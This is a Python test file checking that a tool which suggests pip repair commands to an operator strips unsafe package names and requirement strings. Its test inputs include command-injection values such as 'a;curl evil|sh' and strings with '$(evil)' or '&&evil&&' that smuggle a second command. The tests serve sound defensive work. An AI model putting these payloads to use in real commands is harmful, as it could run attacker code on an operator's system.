"""What a trial prints is its user's: none of it is in a command that an operator is told to type."""

from pathlib import Path
from typing import Any

import pytest

from node.coral import trial
from node.coral.trial import Trial
from node.store.service_set import SetStack

STACK = SetStack("2026-01-10", "ab", "d1", Path("/home/ops/.opencv/bin/python"), Path("/home/ops"), [])
EVIL = "a;curl evil|sh"


def tried(**found: Any) -> Trial:
    return Trial(STACK, "ops", {"python": "3.11", **found}, 0, "")


@pytest.mark.parametrize("name", [EVIL, "pycoral$(evil)", "numpy", "", "../pycoral"])
def test_only_packages_of_a_stack_are_named_in_a_command(name: str) -> None:
    said = trial._foreign(tried(foreign=[name, "/home/ops/.opencv/lib/python3.11/site-packages/x"]))
    assert said is not None
    assert said.endswith("; move that away")


def test_those_are_named() -> None:
    said = trial._foreign(tried(foreign=["pycoral.utils.edgetpu", "/x/site-packages/pycoral"])) or ""
    assert said.endswith("; sudo -u ops /home/ops/.opencv/bin/python -m pip uninstall pycoral")


@pytest.mark.parametrize(
    ("asked", "shown"),
    [
        ("numpy>=9'&&evil&&'", "numpy>=9"),
        ("numpy (>= 9.1, <10); python_version < '4'", "numpy>=9.1,<10"),
        ("numpy>=9$(evil)", "numpy>=9"),
    ],
)
def test_a_requirement_is_written_anew(asked: str, shown: str) -> None:
    found = tried(versions={"numpy": "1.24.4", "pycoral": "2.0.3"}, asked={"pycoral": [asked]}, failed="ImportError: x")
    said = trial._failure(found) or ""
    assert f"asks for {shown}; sudo -u ops /home/ops/.opencv/bin/python -m pip install '{shown}' 'numpy<2'" in said
    assert "evil" not in said
